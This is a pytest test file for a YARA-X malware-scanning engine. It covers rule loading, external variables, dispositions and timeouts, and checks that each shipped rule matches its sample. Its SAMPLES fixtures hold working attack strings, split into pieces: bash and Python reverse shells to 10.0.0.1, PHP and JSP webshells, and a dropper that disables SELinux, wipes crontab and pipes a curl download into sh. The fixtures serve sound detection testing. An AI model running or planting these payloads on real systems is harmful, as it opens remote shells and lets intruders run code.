"""Tests of appliance/scanning/engines/yara.py."""

import gzip
import os
from pathlib import Path

import pytest

from appliance.config import EngineSettings, UnpackLimits, YaraSettings
from appliance.domain.content import ContentLabel
from appliance.domain.outcome import Disposition, Unanswered
from appliance.domain.verdict import Detection
from appliance.scanning.engines.content import Content
from appliance.scanning.engines.engine import MAX_DETECTIONS, EngineBuild, EngineFailure
from appliance.scanning.engines.yara import (
    YaraEngine,
    build,
    build_rules,
    engine_version,
    file_type,
)
from appliance.scanning.inspection import Inspection, inspect

ALWAYS = "condition: true"


def rules(directory: Path, **files: str) -> EngineBuild:
    """Compile the rule files `files`: name without suffix -> text."""
    for name, text in files.items():
        (directory / f"{name}.yar").write_text(text)
    return build_rules([directory])


def engine(built: EngineBuild, settings: YaraSettings | None = None) -> YaraEngine:
    """The engine of a build."""
    sections = {name: memoryview(data) for name, data in built.sections.items()}
    return YaraEngine(sections, settings or YaraSettings())


def threats(
    built: EngineBuild, data: bytes = b"", name: bytes = b"", member: str = "", trusting: bool = False
) -> list[str]:
    """The names of what is detected in `data`. trusting: rules are told the guest's name for a file."""
    looking = engine(built, YaraSettings(trust_file_names=trusting))
    return [d.threat for d in looking.scan(Content.of_bytes(data, name, member))]


def test_rules_are_found_at_every_depth(tmp_path: Path) -> None:
    """Files that end in .yar and .yara are compiled, wherever they stand below the directory."""
    (tmp_path / "deep" / "er").mkdir(parents=True)
    (tmp_path / "deep" / "er" / "a.yara").write_text(f"rule deep {{ {ALWAYS} }}")
    (tmp_path / "b.YAR").write_text(f"rule top {{ {ALWAYS} }}")
    (tmp_path / "README.md").write_text("no rule")
    built = build_rules([tmp_path])
    assert [source.signatures for source in built.sources] == [1, 1]
    assert set(threats(built)) == {"deep", "top"}


def test_a_bad_rule_is_named_and_the_others_load(tmp_path: Path) -> None:
    """Of a file with a bad rule the good ones count; the problem says file, line and what is wrong."""
    text = f"rule a {{ {ALWAYS} }}\nrule b {{\n condition: $nothing }}\nrule c {{ {ALWAYS} }}\n"
    built = rules(tmp_path, mixed=text, fine=f"rule d {{ {ALWAYS} }}")
    assert set(threats(built)) == {"a", "c", "d"}
    fine, mixed = built.sources
    assert (fine.signatures, fine.problems) == (1, ())
    assert mixed.signatures == 2
    (problem,) = mixed.problems
    assert problem.startswith(f"{tmp_path}/mixed.yar:3: unknown pattern `$nothing`")


@pytest.mark.parametrize(
    ("text", "line", "loaded"),
    [
        (f"rule a {{ {ALWAYS} }}\nrule b {{ condition: \n}}\nrule c {{ {ALWAYS} }}\n", 3, 2),
        ("this is no rule at all\n", 1, 0),
        (f'include "other.yar"\nrule a {{ {ALWAYS} }}\n', 1, 1),
        (f'import "nosuch"\nrule a {{ {ALWAYS} }}\n', 1, 1),
        (f"rule a {{ {ALWAYS} }}\n\nrule a {{ {ALWAYS} }}\n", 3, 1),
    ],
    ids=["syntax", "no rule", "include", "module", "twice"],
)
def test_what_is_wrong_with_a_file_is_named_by_line(
    tmp_path: Path, text: str, line: int, loaded: int
) -> None:
    """Whatever is wrong, the line is named and the rest of the file loads."""
    (source,) = rules(tmp_path, a=text).sources
    assert source.signatures == loaded
    assert source.problems
    assert source.problems[0].startswith(f"{tmp_path}/a.yar:{line}: ")


def test_the_same_name_in_two_files_is_no_error(tmp_path: Path) -> None:
    """Each file has a namespace of its own."""
    built = rules(tmp_path, a=f"rule same {{ {ALWAYS} }}", b=f"rule same {{ {ALWAYS} }}")
    assert [source.problems for source in built.sources] == [(), ()]
    assert threats(built) == ["same", "same"]


def test_a_global_rule_holds_for_its_own_file(tmp_path: Path) -> None:
    """What is global in one file of the operator's does not silence another."""
    built = rules(
        tmp_path,
        a=f"global rule never {{ condition: false }} rule a {{ {ALWAYS} }}",
        b=f"rule b {{ {ALWAYS} }}",
    )
    assert threats(built) == ["b"]


def test_files_that_are_not_utf8_are_read(tmp_path: Path) -> None:
    """An old file with Latin-1 in a comment loads, and the encoding is named."""
    (tmp_path / "old.yar").write_bytes(b"// caf\xe9\nrule a { condition: true }")
    built = build_rules([tmp_path])
    assert threats(built) == ["a"]
    assert "not UTF-8" in built.sources[0].problems[0]


def test_an_unreadable_file_is_named(tmp_path: Path) -> None:
    """A broken link among the rules is a problem of its own, and the others load."""
    (tmp_path / "gone.yar").symlink_to(tmp_path / "nowhere")
    built = rules(tmp_path, a=f"rule a {{ {ALWAYS} }}")
    assert [source.problems for source in built.sources] == [
        (f"{tmp_path}/gone.yar: No such file or directory",),
        (),
    ]


@pytest.mark.parametrize(
    ("condition", "name", "member", "data"),
    [
        ('filename == "run.SH"', b"run.SH", "", b""),
        ('extension == ".sh"', b"run.SH", "", b""),
        ('filepath == "run.sh"', b"run.sh", "", b""),
        ('filepath == "a.zip!b/run.sh" and filename == "run.sh"', b"run.sh", "a.zip!b/run.sh", b""),
        ('filetype == "ELF"', b"", "", b"\x7fELF\x02\x01\x01"),
        ('filetype == "EXE"', b"", "", b"MZ"),
        (
            'owner == "" and filename == "" and filepath == "" and extension == "" and filetype == ""',
            b"",
            "",
            b"",
        ),
        ('filename contains "caf"', b"caf\xe9", "", b""),
    ],
)
def test_external_variables_are_filled_in(
    tmp_path: Path, condition: str, name: bytes, member: str, data: bytes
) -> None:
    """Rules may ask for the names that public rule sets use; what is not known is an empty text."""
    built = rules(tmp_path, a=f"rule a {{ condition: {condition} }}")
    assert built.sources[0].problems == ()
    assert threats(built, data, name, member, trusting=True) == ["a"]


NAMED = 'rule named { condition: filename != "" or filepath != "" or extension != "" }'


def test_a_guests_name_for_a_file_does_not_reach_rules(tmp_path: Path) -> None:
    """A guest chooses the name, and the verdict is every guest's: rules are told it where all are trusted."""
    built = rules(tmp_path, a=NAMED)
    assert threats(built, b"content", b"run.sh") == []
    assert threats(built, b"content", b"run.sh", trusting=True) == ["named"]


def test_the_names_of_members_reach_rules(tmp_path: Path) -> None:
    """They are part of the content, so it alone decides."""
    built = rules(tmp_path, a='rule a { condition: extension == ".sh" and filepath == "b/run.sh" }')
    assert threats(built, b"content", b"run.sh", "b/run.sh") == ["a"]


def test_a_compressed_file_does_not_take_its_guests_name_to_rules(tmp_path: Path) -> None:
    """What a gzip packed has no name of its own; the guest's name for the gzip is not taken for it."""
    looking = engine(rules(tmp_path, a='rule a { condition: filename contains "run" }'))
    packed = Content.of_bytes(gzip.compress(b"content"), b"run.sh.gz")
    assert inspect([looking], packed, UnpackLimits()) == Inspection()


def test_trusting_names_is_another_build(tmp_path: Path) -> None:
    """Verdicts that were made with names count no more without them, and the other way round."""
    (tmp_path / "a.yar").write_text(NAMED)
    without, with_names = (
        build(
            EngineSettings(yara=YaraSettings(shipped=False, rules_dirs=(tmp_path,), trust_file_names=trust))
        )
        for trust in (False, True)
    )
    assert without.content != with_names.content


def test_external_variables_do_not_linger(tmp_path: Path) -> None:
    """The name of one content is not that of the next."""
    looking = engine(rules(tmp_path, a='rule a { condition: filename == "bad.exe" }'))
    assert looking.scan(Content.of_bytes(b"", b"bad.exe", "b/bad.exe")) != []
    assert looking.scan(Content.of_bytes(b"", b"")) == []


@pytest.mark.parametrize(
    ("rule", "disposition"),
    [
        ("rule a { condition: true }", Disposition.MALICIOUS),
        ("rule a : trojan linux { condition: true }", Disposition.MALICIOUS),
        ("rule a : pua { condition: true }", Disposition.SUSPICIOUS),
        ("rule a : linux Adware { condition: true }", Disposition.SUSPICIOUS),
        ("rule a { meta: pua = true condition: true }", Disposition.SUSPICIOUS),
        ("rule a { meta: suspicious = 1 condition: true }", Disposition.SUSPICIOUS),
        ("rule a { meta: pua = false condition: true }", Disposition.MALICIOUS),
        ('rule a { meta: disposition = "suspicious" condition: true }', Disposition.SUSPICIOUS),
        ('rule a { meta: description = "suspicious" condition: true }', Disposition.MALICIOUS),
    ],
)
def test_tags_and_meta_mark_what_is_only_unwanted(
    tmp_path: Path, rule: str, disposition: Disposition
) -> None:
    """A rule says by a tag or by its meta data that what it finds is suspicious, not malicious."""
    found = engine(rules(tmp_path, a=rule)).scan(Content.of_bytes(b"", b"", "m"))
    assert found == [Detection("a", "yara", "m", disposition)]


def test_the_malicious_come_first_and_not_without_end(tmp_path: Path) -> None:
    """Overlapping rule sets give a bounded list with the worst in front."""
    text = "".join(f"rule p{n} : pua {{ {ALWAYS} }}\n" for n in range(30)) + f"rule bad {{ {ALWAYS} }}"
    found = threats(rules(tmp_path, a=text))
    assert len(found) == MAX_DETECTIONS
    assert found[0] == "bad"


def test_a_large_content_is_scanned_where_it_lies(tmp_path: Path) -> None:
    """A content that came as a descriptor is mapped and not copied, and what stands at its end is found."""
    built = rules(tmp_path, a='rule a { strings: $a = "at the very end" condition: $a }')
    data = bytes(3_000_000) + b"at the very end"
    fd = os.memfd_create("test")
    try:
        os.write(fd, data)
        content = Content.of_descriptor(fd, ContentLabel(b"", len(data)))
        assert [d.threat for d in engine(built).scan(content)] == ["a"]
        content.close()
    finally:
        os.close(fd)


def test_a_match_that_takes_too_long_is_unanswered(tmp_path: Path) -> None:
    """A rule that does not come to an end stops at the time limit and says so."""
    loop = "for any i in (0..filesize) : ( for any j in (0..filesize) : ( uint8(i) + uint8(j) == 600 ) )"
    built = rules(tmp_path, a=f"rule a {{ condition: {loop} }}")
    with pytest.raises(EngineFailure, match="longer than 1 s") as caught:
        engine(built, YaraSettings(match_timeout_seconds=1)).scan(Content.of_bytes(bytes(500_000)))
    assert caught.value.why is Unanswered.TIMED_OUT


def test_a_descriptor_that_cannot_be_read_is_an_engine_failure(tmp_path: Path) -> None:
    """An error of YARA-X is a sentence, not a traceback."""
    built = rules(tmp_path, a=f"rule a {{ {ALWAYS} }}")
    fd = os.memfd_create("test")
    os.ftruncate(fd, 2_000_000)
    content = Content.of_descriptor(fd, ContentLabel(b"", 2_000_000))
    assert len(content.data) == 2_000_000
    os.close(fd)
    content.fd = 1_000_000
    with pytest.raises(EngineFailure, match="YARA-X could not scan"):
        engine(built).scan(content)
    content.close()


def test_the_fingerprint_is_of_the_content_alone(tmp_path: Path) -> None:
    """Other paths and another order give the same number; other content another."""
    here, there = tmp_path / "here", tmp_path / "there"
    here.mkdir()
    there.mkdir()
    one = rules(here, a=f"rule a {{ {ALWAYS} }}", b=f"rule b {{ {ALWAYS} }}")
    two = rules(there, x=f"rule b {{ {ALWAYS} }}", y=f"rule a {{ {ALWAYS} }}")
    assert one.content == two.content
    assert rules(there, y=f"rule c {{ {ALWAYS} }}").content != one.content
    assert one.version == engine_version()


def test_no_rules_at_all_detect_nothing() -> None:
    """An operator may turn the shipped rules off and have none of his own."""
    built = build(EngineSettings(yara=YaraSettings(shipped=False)))
    assert built.sources == ()
    assert threats(built, b"anything") == []


@pytest.mark.parametrize(
    ("head", "word"),
    [(b"\x7fELF\x02", "ELF"), (b"MZ\x90", "EXE"), (b"%PDF-1.4", "PDF"), (b"", ""), (b"text", "")],
)
def test_file_types_are_told_by_first_bytes(head: bytes, word: str) -> None:
    """A few words that rules ask for; anything else is an empty text."""
    assert file_type(head) == word


def shipped() -> EngineBuild:
    """The rules that ship."""
    return build(EngineSettings())


def test_the_shipped_rules_load_without_a_problem() -> None:
    """Every rule that ships compiles."""
    sources = shipped().sources
    assert [source.problems for source in sources] == [()] * len(sources)
    assert sum(source.signatures for source in sources) >= 10


def elf(kind: int, *texts: str) -> bytes:
    """The beginning of an ELF file of type `kind` that holds `texts`."""
    return b"\x7fELF" + bytes(12) + kind.to_bytes(2, "little") + bytes(100) + "\0".join(texts).encode()


# In pieces, so that no scanner objects to this file.
SAMPLES = {
    "KvmLightAgent_Test_File": b"KVM-LIGHT-AGENT-%s-TEST-FILE\n" % b"YARA",
    "KvmLightAgent_Test_Unwanted": b"KVM-LIGHT-AGENT-%s-TEST-FILE\n" % b"PUA",
    "Linux_Coinminer": elf(2, "stratum+" + "tcp://pool", "rx/0", "donate-" + "level", "--nice" + "hash"),
    "Linux_Coinminer_Config": (
        '{"pools" : [{"user": "4' + "A" + "z" * 93 + '"}], "donate-' + 'level": 1}'
    ).encode(),
    "Linux_Preload_Rootkit": elf(
        3, "/etc/ld.so." + "preload", "dlsym", "readdir64", "readdir", "__xstat", "execve",
        "/proc/net/tcp", "/proc/self/fd/%d", "/bin/sh",
    ),
    "Linux_Kernel_Rootkit": elf(
        1, "init_module", "vermagic=6.1", "hide_" + "module", "hide_" + "pid", "give_" + "root",
        "sys_call_table",
    ),
    "Linux_Bot_Killing_Rivals": elf(
        2, "/bin/busy" + "box", "applet not found", "/dev/watch" + "dog", "vse" + "attack"
    ),
    "Script_Reverse_Shell_Bash": b"bash -i >& /dev/" + b"tcp/10.0.0.1/4444 0>&1\n",
    "Script_Reverse_Shell_Interpreter": (
        "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',1));"
        "os.dup" + "2(s.fileno(),0);subprocess.call(['/bin/" + "sh','-i'])"
    ).encode(),
    "Script_Webshell_Php_Request_Runs": b"<?php @eval($_PO" + b"ST['x']); ?>",
    "Script_Webshell_Php_Packed": b"<?php eval(gzinflate(base64_" + b"decode('" + b"A" * 300 + b"'))); ?>",
    "Script_Webshell_Jsp": b"<% Runtime.getRuntime().exec(request.get" + b'Parameter("cmd")); %>',
    "Script_Dropper_Cron_Miner": (
        "setenforce 0\npkill -f xm" + "rig\ncrontab -r\ncurl -fsSL http://10.0.0.1/a.sh | " + "sh\n"
    ).encode(),
}  # fmt: skip


def test_each_shipped_rule_has_a_sample() -> None:
    """No rule ships that is not shown to work."""
    directory = Path(shipped().sources[0].path).parent
    names = {
        line.split()[1]
        for path in directory.glob("*.yar")
        for line in path.read_text().splitlines()
        if line.startswith("rule ")
    }
    assert names == set(SAMPLES)


@pytest.mark.parametrize("name", SAMPLES)
def test_each_shipped_rule_detects_its_sample(name: str) -> None:
    """A rule finds what it was written for, and no other rule does."""
    (found,) = engine(shipped()).scan(Content.of_bytes(SAMPLES[name]))
    assert found.threat == name
    unwanted = name == "KvmLightAgent_Test_Unwanted"
    assert found.disposition is (Disposition.SUSPICIOUS if unwanted else Disposition.MALICIOUS)


def test_the_shipped_rules_leave_ordinary_files_alone() -> None:
    """Programs, libraries and scripts of this machine, and this project's own files, are not detected."""
    looking = engine(shipped())
    project = Path(__file__).parents[5]
    files = [*Path("/usr/bin").iterdir(), *Path("/usr/sbin").iterdir()][:400]
    files += [*(project / "appliance").rglob("*"), *(project / "tests").rglob("*")]
    detected = {
        path: looking.scan(Content.of_bytes(path.read_bytes()))
        for path in files
        # Rules have their words in pieces here; the compiler puts them together in its own files.
        if path.is_file() and path.suffix != ".pyc" and path.stat().st_size < 1_000_000
        if os.access(path, os.R_OK)
    }
    assert {path: found for path, found in detected.items() if found} == {}
